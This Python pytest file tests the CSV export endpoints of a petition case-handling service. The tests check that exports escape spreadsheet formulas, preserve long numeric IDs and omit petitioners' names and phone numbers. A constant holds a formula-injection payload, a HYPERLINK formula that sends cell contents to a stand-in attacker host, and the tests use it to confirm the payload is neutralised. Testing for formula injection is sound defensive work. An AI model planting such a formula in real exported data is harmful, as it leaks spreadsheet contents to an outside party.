"""A table that leaves the page opens in Excel, runs nothing, loses no digit and names no petitioner."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest
from conftest import Caller
from fake_desk import FakeDesk

from service import routes_export
from service.exports import CASES, MATTERS, SIGNALS, TOPICS, table

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"x")'


def rows(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="leian-')
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def register(call: Caller, case_id: str, **fields: object) -> None:
    answer = call("POST", "/v1/cases", json={"case_id": case_id, "text": f"第{case_id}件：路灯不亮", **fields})
    assert answer.status_code == 201


def test_cases_of_a_unit_as_a_table(call: Caller) -> None:
    register(call, "20261012000123456", title=FORMULA, handling_unit="＝甲局", petitioner={"name": "赵某", "phone": "13900001234"})
    register(call, "K2", handling_unit="乙局")
    found = rows(call("GET", "/v1/export/cases.csv"))
    assert tuple(found[0]) == CASES
    assert [row[0] for row in found[1:]] == ["K2", "'20261012000123456"]  # newest first; Excel keeps fifteen digits
    assert found[2][2] == "'" + FORMULA
    assert found[2][5] == "'＝甲局"
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in found for cell in row)
    assert "13900001234" not in str(found)
    assert "赵某" not in str(found)
    assert len(rows(call("GET", "/v1/export/cases.csv", params={"unit": "乙局"}))) == 2


def test_all_pages_are_in_the_table_and_a_cut_is_said(call: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    for number in range(7):
        register(call, f"K{number}")
    monkeypatch.setattr(routes_export, "ROWS_A_PAGE", 3)
    assert [row[0] for row in rows(call("GET", "/v1/export/cases.csv"))[1:]] == [f"K{n}" for n in range(6, -1, -1)]
    monkeypatch.setattr(routes_export, "MOST_ROWS", 5)
    monkeypatch.setattr(routes_export._table, "__kwdefaults__", {"most": 5})
    found = rows(call("GET", "/v1/export/cases.csv"))
    assert [row[0] for row in found[1:]] == ["K6", "K5", "K4", "K3", "K2", "（只导出前 5 行）"]


def test_matters_topics_and_signals(call: Caller) -> None:
    found = rows(call("GET", "/v1/export/matters.csv"))
    assert tuple(found[0]) == MATTERS
    assert found[1][:3] == ["m-1", "路灯", "3"]
    assert len(found) == 3  # the fake desk has two pages of one line
    found = rows(call("GET", "/v1/export/hotspots.csv", params={"month": "2026-10"}))
    assert tuple(found[0]) == TOPICS
    assert found[1][:4] == ["2026-10", "电梯", "3", "4"]
    found = rows(call("GET", "/v1/export/alerts.csv", params={"days": "7"}))
    assert tuple(found[0]) == SIGNALS
    assert found[1][2:6] == ["上升", "电梯", "临溪区", "9"]
    assert found[1][8] == "1.23e-05"


def test_a_matter_a_history_a_search_and_precedents(call: Caller, desk: FakeDesk) -> None:
    register(call, "K1", text="石溪路路灯不亮", petitioner={"name": "钱某"})
    register(call, "K2", text="石溪路路灯不亮", petitioner={"name": "钱某"}, received_at="2026-11-02")
    assert [row[0] for row in rows(call("GET", "/v1/export/matter.csv?matter_id=m-1"))[1:]] == ["K2"]
    assert [row[0] for row in rows(call("GET", "/v1/export/history.csv?case_id=K1"))[1:]] == ["K2"]
    register(call, "K3", text="石溪路路灯不亮", petitioner={"name": "钱某"}, received_at="2026-11-02", confidential=True)
    assert [row[0] for row in rows(call("GET", "/v1/export/matter.csv?matter_id=m-1"))[1:]] == ["K2"]
    assert [row[0] for row in rows(call("GET", "/v1/export/history.csv?case_id=K1"))[1:]] == ["K2"]
    found = rows(call("GET", "/v1/export/search.csv", params={"q": "路灯", "unit": "甲"}))
    assert {row[0] for row in found[1:]} == {"K1", "K2", "K3"}  # the fake desk searches in all
    assert desk.asked[-1][1].unit == "甲"  # type: ignore[index]
    assert len(rows(call("GET", "/v1/export/precedents.csv?case_id=K1"))) == 1


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("cases.csv?verdict=NO", 422), ("cases.csv?status=NO", 422), ("cases.csv?since=soon", 422), ("search.csv", 422),
        ("matters.csv?sort=no", 422), ("matters.csv?open=no", 422), ("matter.csv", 404), ("history.csv?case_id=no", 404),
        ("history.csv", 422), ("precedents.csv?case_id=no", 404), ("hotspots.csv?month=2026", 422), ("alerts.csv?days=0", 422),
    ],
)  # fmt: skip
def test_what_cannot_be_exported_is_a_problem_and_no_table(call: Caller, path: str, status: int) -> None:
    answer = call("GET", f"/v1/export/{path}")
    assert answer.status_code == status
    assert answer.headers["content-type"] == "application/problem+json"


def test_cells() -> None:
    line = table([(None, 0.5, -1, "-1", "123456789012345", "1234567890123456", "a\r\nb", "\ud800")]).decode()
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["", "0.5", "-1", "'-1", "123456789012345", "'1234567890123456", "a\r\nb", "?"]


def test_a_brief_list_has_no_texts(call: Caller) -> None:
    register(call, "K1", text="很长的一段话" * 50, status="PROCESSING", handling_unit="甲局", received_at="2026-10-05")
    register(call, "K2", status="CLOSED", received_at="2026-10-06")
    found = call("GET", "/v1/cases?brief=true").json()["cases"][1]
    assert found == {
        "case_id": "K1", "seq": 1, "title": ("很长的一段话" * 50)[:60], "received_at": "2026-10-05", "channel": None, "status": "PROCESSING",
        "handling_unit": "甲局", "matter_id": None, "verdict": {"verdict": "NEW", "confidence": 0.9},
    }  # fmt: skip
    assert call("GET", "/v1/cases?brief=yes").status_code == 422


def test_the_filters_reach_the_desk(call: Caller, desk: FakeDesk, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[object] = []
    monkeypatch.setattr(desk, "newest", lambda limit, before, wanted: seen.append(wanted) or [])
    asked = {"status": "OPEN", "locality": "东渡区", "category": "住建", "since": "2026-10-01", "until": "2026-10-31"}
    assert call("GET", "/v1/cases", params=asked).status_code == 200
    wanted = seen[0]
    assert (wanted.open_only, wanted.status, wanted.locality, wanted.category) == (True, None, "东渡区", "住建")  # type: ignore[attr-defined]
    assert wanted.since == datetime(2026, 9, 30, 16, tzinfo=UTC)  # type: ignore[attr-defined]
    assert wanted.until > datetime(2026, 10, 31, 15, 59, tzinfo=UTC)  # type: ignore[attr-defined]
